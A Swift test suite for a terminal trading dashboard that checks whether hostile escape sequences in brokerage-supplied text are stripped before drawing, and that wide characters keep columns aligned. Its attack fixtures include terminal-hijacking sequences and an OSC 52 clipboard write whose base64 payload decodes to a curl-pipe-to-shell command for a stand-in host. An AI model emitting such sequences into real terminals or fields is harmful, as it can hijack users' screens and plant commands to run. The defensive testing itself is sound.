import Foundation
import Portfolio
import Testing

@testable import TerminalUI

/// Text from IBKR in the four places it reaches the screen — a position's company name and description, an order's
/// description, an account's alias and an alert — drawn through the real frame composition and read back cell by
/// cell: every kind of terminal attack is removed whole, over-long text is cut with an ellipsis, and wide
/// characters keep every row exactly as wide as the screen and every column where it belongs.
@Suite struct HostileFieldTests {
    init() { TestLocale.useUTF8() }

    /// One attack each, between two halves of a word that must come out joined.
    static let attacks: [(name: String, text: String)] = [
        ("CSI clear screen and colour", "\u{1B}[2J\u{1B}[H\u{1B}[31;1m"),
        ("CSI cursor report, 8-bit", "\u{9B}6n"),
        ("OSC 52 clipboard write ended by BEL", "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}"),
        ("OSC 52 clipboard write ended by ST", "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1B}\\"),
        ("OSC 8 link", "\u{1B}]8;;https://evil.example/x\u{1B}\\"),
        ("OSC window title, 8-bit", "\u{9D}0;pwned\u{9C}"),
        ("DCS request", "\u{1B}P+q544e\u{1B}\\"),
        ("DCS, 8-bit", "\u{90}1$r\u{9C}"),
        ("C0 controls", "\u{0}\u{7}\u{8}\u{1A}\u{1C}"),
        ("C1 controls", "\u{80}\u{84}\u{85}\u{8D}"),
        ("DEL", "\u{7F}\u{7F}"),
        ("bidi overrides", "\u{202E}\u{202D}\u{202A}\u{202B}\u{202C}"),
        ("bidi isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
    ]

    /// What no cell may hold after any attack: parts of the sequences' payloads.
    static let payloads = ["[2J", "31;1m", "52;c;", "Y3VybC", "evil.example", "pwned", "+q544e", "1$r"]

    static let hostileConid = 990_001

    /// The sample dashboard with `attack` inside a company name, an order description, the main account's alias
    /// and an alert; each cleans up to one word.
    static func state(with attack: String) -> DashboardState {
        let contract = Contract(
            conid: hostileConid, symbol: "HSTL", description: "Acme" + attack + "Desc", name: "Acme" + attack + "Corp",
            assetClass: .stock, currency: .usd, listingExchange: "NYSE" + attack)
        let position = SampleDashboard.position(
            SampleDashboard.main, contract, quantity: 7, price: 10, averagePrice: 9)
        let order = Order(
            id: 4242, account: SampleDashboard.main, conid: hostileConid, symbol: "HSTL", description: "Order" + attack + "Note",
            side: .buy, orderType: "LMT", limitPrice: 10, quantity: 7, filled: 0, remaining: 7, status: .submitted,
            timeInForce: "DAY", lastUpdate: SampleDashboard.ago(5))
        let alert = Alert(
            id: 50, time: SampleDashboard.ago(1), severity: .error, category: .data, account: SampleDashboard.main,
            text: "Margin" + attack + "Call")
        var state = SampleDashboard.state(positions: [position], alerts: [alert], orders: [order])
        state.accounts[0].account.displayName = "Joint" + attack + "Acct"
        return state
    }

    /// The frames the fields show in: the main screen wide and narrow, the account, and the hostile position.
    static func frames(of state: DashboardState) throws -> [(name: String, grid: Grid)] {
        let theme = try ThemeFixtures.theme("default")
        var wide = ViewState(size: TerminalSize(cols: 200, rows: 50))
        wide.selectedAccount = SampleDashboard.main
        let narrow = ViewState(size: TerminalSize(cols: 80, rows: 24))
        var account = ViewState(size: TerminalSize(cols: 120, rows: 40))
        account.screens = [.main, .account(SampleDashboard.main)]
        var position = ViewState(size: TerminalSize(cols: 120, rows: 40))
        position.selectedAccount = SampleDashboard.main
        position.screens = [.main, .position(PositionID(account: SampleDashboard.main, conid: hostileConid))]
        return [("main 200×50", wide), ("main 80×24", narrow), ("account", account), ("position", position)].map {
            ($0.0, DashboardRenderer.frame(state, view: $0.1, theme: theme))
        }
    }

    /// Every cell holds printable text only, and every row is exactly as wide as the screen.
    static func expectClean(_ grid: Grid, _ context: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for y in 0..<grid.rows {
            for x in 0..<grid.cols {
                for scalar in grid[x, y].text.unicodeScalars {
                    let control = scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value)
                    #expect(!control, "\(context): control U+\(String(scalar.value, radix: 16)) at \(x),\(y)", sourceLocation: sourceLocation)
                    #expect(!TextSanitizer.isBidiControl(scalar), "\(context): bidi control at \(x),\(y)", sourceLocation: sourceLocation)
                    // The grid turns a control character that reaches it into U+FFFD: seeing one means the text
                    // was not cleaned before it was drawn.
                    #expect(scalar != "\u{FFFD}", "\(context): a control reached the grid at \(x),\(y)", sourceLocation: sourceLocation)
                }
            }
            let line = grid.text(ofRow: y)
            #expect(TextWidth.of(line) == grid.cols, "\(context): row \(y) is \(TextWidth.of(line)) wide: \(line)", sourceLocation: sourceLocation)
        }
    }

    @Test(arguments: attacks.indices)
    func everyAttackInEveryPlaceIsRemovedWholeAndTheTextAroundItKept(_ index: Int) throws {
        let (name, attack) = Self.attacks[index]
        let frames = try Self.frames(of: Self.state(with: attack))
        for (view, grid) in frames {
            Self.expectClean(grid, "\(name) in \(view)")
            let screen = grid.lines.joined(separator: "\n")
            for payload in Self.payloads {
                #expect(!screen.contains(payload), "\(name) in \(view): \(payload) shows")
            }
        }
        let main = frames[0].grid.lines.joined(separator: "\n")
        for word in ["AcmeCorp", "JointAcct", "MarginCall"] {
            #expect(main.contains(word), "\(name): \(word) is not on the main screen")
        }
        // The orders' description column is the first to go when the pane is narrow: it shows on a very wide screen.
        var wide = ViewState(size: TerminalSize(cols: 400, rows: 60))
        wide.selectedAccount = SampleDashboard.main
        let orders = DashboardRenderer.frame(Self.state(with: attack), view: wide, theme: try ThemeFixtures.theme("default"))
        Self.expectClean(orders, "\(name) at 400 columns")
        #expect(orders.lines.joined(separator: "\n").contains("OrderNote"), "\(name): the order's description")
        let detail = frames[3].grid.lines.joined(separator: "\n")
        #expect(detail.contains("AcmeDesc") && detail.contains("NYSE"), "\(name): the position's details")
    }

    @Test func overLongFieldsAreCutWithAnEllipsisInsideTheirColumns() throws {
        let long = String(repeating: "Longname ", count: 40)
        var state = Self.state(with: long)
        state.accounts[0].account.displayName = long
        let frames = try Self.frames(of: state)
        for (view, grid) in frames { Self.expectClean(grid, "long text in \(view)") }
        let grid = frames[0].grid
        let pane = try #require(ScreenLayout(size: TerminalSize(cols: 200, rows: 50)).panes[.positions])
        let row = try #require((pane.y..<pane.maxY).first { grid.text(ofRow: $0).contains("HSTL") })
        let line = grid.text(ofRow: row)
        // The name is cut inside its column, and the quantity after it still ends under its heading.
        #expect(line.contains("AcmeLongname Longname") && line.contains("…"), "\(line)")
        #expect(Self.end(of: " 7 ", in: grid, row: row).map { $0 - 1 } == Self.end(of: "Qty", in: grid, row: pane.y + 1))
        let screen = grid.lines.joined(separator: "\n")
        #expect(screen.contains("MarginLongname") && screen.contains("…"))
        #expect(!screen.contains(long), "nothing shows the whole text")
    }

    @Test func wideCharactersKeepEveryRowAsWideAsTheScreenAndColumnsInPlace() throws {
        let names = [
            (conid: 990_101, name: "トヨタ自動車株式会社", quantity: Decimal(111)),
            (conid: 990_102, name: "😀🚀 Rocket Emoji Holdings 👍🏽", quantity: Decimal(222)),
            (conid: 990_103, name: "中国平安保险集团股份有限公司是一家很长的名字", quantity: Decimal(333)),
            (conid: 990_104, name: "Ａ全角ＡＢＣ半角abc", quantity: Decimal(444)),
            (conid: 990_105, name: "Plain ASCII Name Inc", quantity: Decimal(555)),
        ]
        let positions = names.map { entry in
            SampleDashboard.position(
                SampleDashboard.main,
                Contract(conid: entry.conid, symbol: "W\(entry.conid % 1000)", name: entry.name, assetClass: .stock, currency: .usd),
                quantity: entry.quantity, price: 1, averagePrice: 1)
        }
        let alert = Alert(
            id: 60, time: SampleDashboard.ago(1), severity: .warning, category: .risk, account: SampleDashboard.main,
            text: "持仓 😀 集中度过高 — トヨタ is 40 % of net liquidation")
        var state = SampleDashboard.state(positions: positions, alerts: [alert])
        state.accounts[0].account.displayName = "家族口座 👪"
        let theme = try ThemeFixtures.theme("default")
        // Every width from narrow to wide, so that wide characters meet every column edge at an odd and an even place.
        for cols in 60...130 {
            var view = ViewState(size: TerminalSize(cols: cols, rows: 60))
            view.selectedAccount = SampleDashboard.main
            let grid = DashboardRenderer.frame(state, view: view, theme: theme)
            Self.expectClean(grid, "wide text at \(cols) columns")
            let pane = try #require(ScreenLayout(size: view.size).panes[.positions])
            let heading = try #require(Self.end(of: "Qty", in: grid, row: pane.y + 1), "no Qty column at \(cols)")
            for entry in names {
                let row = try #require(
                    (pane.y + 2..<pane.maxY - 1).first { grid.text(ofRow: $0).contains("W\(entry.conid % 1000) ") },
                    "\(entry.name) not shown at \(cols)")
                let quantity = " \(NumberText.quantity(entry.quantity)) "
                let end = try #require(Self.end(of: quantity, in: grid, row: row), "\(grid.text(ofRow: row))")
                #expect(end - 1 == heading, "\(cols) columns, \(entry.name): \(grid.text(ofRow: row))")
            }
        }
    }

    /// The display column just after `text` on row `y`.
    static func end(of text: String, in grid: Grid, row y: Int) -> Int? {
        FrameStyleTests.column(of: text, in: grid, row: y).map { $0 + TextWidth.of(text) }
    }
}
